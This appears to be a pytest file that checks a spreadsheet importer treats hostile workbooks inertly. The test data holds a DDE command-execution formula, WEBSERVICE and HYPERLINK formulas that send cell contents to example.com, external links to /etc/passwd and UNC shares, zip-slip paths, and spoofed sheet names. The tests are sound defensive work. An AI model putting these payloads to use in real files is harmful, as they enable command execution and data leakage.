"""Workbooks that lead elsewhere or lie about names: their values are read, nothing else comes of them."""

import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.hyperlink import Hyperlink

from db.exchange.held_back import write_held_back
from db.exchange.importing import run_import
from db.exchange.reading import read_workbook
from db.exchange.sheets import Sheet
from db.queries import View, list_ids, rows
from db.store import Store

WORKBOOK = Path(__file__).parents[2] / "workbooks" / "participants.xlsx"
OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?"&A1,"here")',
    '=WEBSERVICE("https://example.com/?"&A1)',
    "='file://example.com/share/[other.xlsx]Sheet1'!A1",
)


def book_of(path: Path, *lines: tuple[object, ...], title: str = "People") -> Path:
    book = openpyxl.Workbook()
    book.worksheets[0].title = title
    for line in lines:
        book.worksheets[0].append(list(line))
    book.save(path)
    return path


def only(path: Path) -> Sheet:
    (sheet,) = read_workbook(path).sheets
    return sheet


def test_a_formula_that_reaches_out_has_the_value_it_was_saved_with_or_none(tmp_path: Path) -> None:
    path = book_of(
        tmp_path / "reaches.xlsx", ("Family name", "Note"), *(("Example", each) for each in FORMULAS)
    )
    sheet = only(path)
    assert [sheet.value(row, 2) for row in range(2, 6)] == [None] * 4


def test_a_link_in_a_cell_is_not_taken_for_its_words(tmp_path: Path) -> None:
    path = book_of(tmp_path / "linked.xlsx", ("Family name", "Website"), ("Example", "our page"))
    book = openpyxl.load_workbook(path)
    cell = book.worksheets[0]["B2"]
    cell.hyperlink = Hyperlink(
        ref="B2", target=r"\\example.com\share\page.html", tooltip="javascript:alert(1)"
    )
    book.save(path)
    assert only(path).value(2, 2) == "our page"


@pytest.mark.parametrize("kind", ["externalLinkPath", "oleObject", "attachedTemplate", "image", "hyperlink"])
@pytest.mark.parametrize("target", ["file:///etc/passwd", "https://example.com/x", r"\\example.com\share\x"])
def test_parts_that_lie_elsewhere_are_left_there(tmp_path: Path, kind: str, target: str) -> None:
    path = tmp_path / "outside.xlsx"
    path.write_bytes(WORKBOOK.read_bytes())
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
        rels = OUTSIDE.format(kind=kind, target=target)
        archive.writestr("xl/externalLinks/_rels/externalLink1.xml.rels", rels)
    assert read_workbook(path).sheets[0].rows == read_workbook(WORKBOOK).sheets[0].rows


def test_names_in_the_zip_lead_nowhere(tmp_path: Path) -> None:
    folder = tmp_path / "inside"
    folder.mkdir()
    path = folder / "slips.xlsx"
    path.write_bytes(WORKBOOK.read_bytes())
    with zipfile.ZipFile(path, "a") as archive:
        for name in ("../slipped.txt", "/slipped.txt", "..\\slipped.txt", "xl/../../slipped.txt"):
            archive.writestr(name, "out")
    assert read_workbook(path).sheets[0].rows
    assert [each.name for each in tmp_path.rglob("*")] == ["inside", "slips.xlsx"]


def test_a_picture_is_passed_over_whatever_it_claims_to_be(tmp_path: Path) -> None:
    path = tmp_path / "picture.xlsx"
    path.write_bytes(WORKBOOK.read_bytes())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 5_000_000)
        archive.writestr("xl/media/image2.svg", '<svg><image href="https://example.com/seen.png"/></svg>')
    assert read_workbook(path).sheets[0].rows == read_workbook(WORKBOOK).sheets[0].rows


def renamed(path: Path, name: str) -> Path:
    """The same workbook, its first sheet called as no program would let it be called."""
    content = {}
    with zipfile.ZipFile(path) as archive:
        for part in archive.namelist():
            content[part] = archive.read(part)
    content["xl/workbook.xml"] = content["xl/workbook.xml"].replace(
        b'name="People"', f'name="{name}"'.encode()
    )
    with zipfile.ZipFile(path, "w") as archive:
        for part, data in content.items():
            archive.writestr(part, data)
    return path


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "C:\\Users",
        "[x]*?:",
        "con",
        "a&#9;b&#10;c",
        "'quoted'",
        "\u202efdp.exe",
        "x" * 3000,
    ],
)
def test_a_sheet_of_any_name_is_read_and_held_back_beside_it(store: Store, tmp_path: Path, name: str) -> None:
    folder = tmp_path / "inside"
    folder.mkdir()
    path = renamed(
        book_of(folder / "people.xlsx", ("Family name", "Birthday"), ("Example", "never"), ("Beispiel", "")),
        name,
    )
    plans = [report.plan for report in run_import(store, path, "contacts")]
    assert write_held_back(plans, folder / "back.xlsx").rows == 1
    titles = openpyxl.load_workbook(folder / "back.xlsx").sheetnames
    assert all(
        0 < len(title) <= 31 and not set(title) & set("[]:*?/\\") and title.isprintable() for title in titles
    )
    made = {each.name for each in tmp_path.rglob("*") if not each.name.startswith("dateline.db")}
    assert made == {"inside", "people.xlsx", "back.xlsx"}
    with store.read() as session:
        (kept,) = rows(session, "contact", list_ids(session, View("contact")))
        assert kept["family_name"] == "Beispiel"
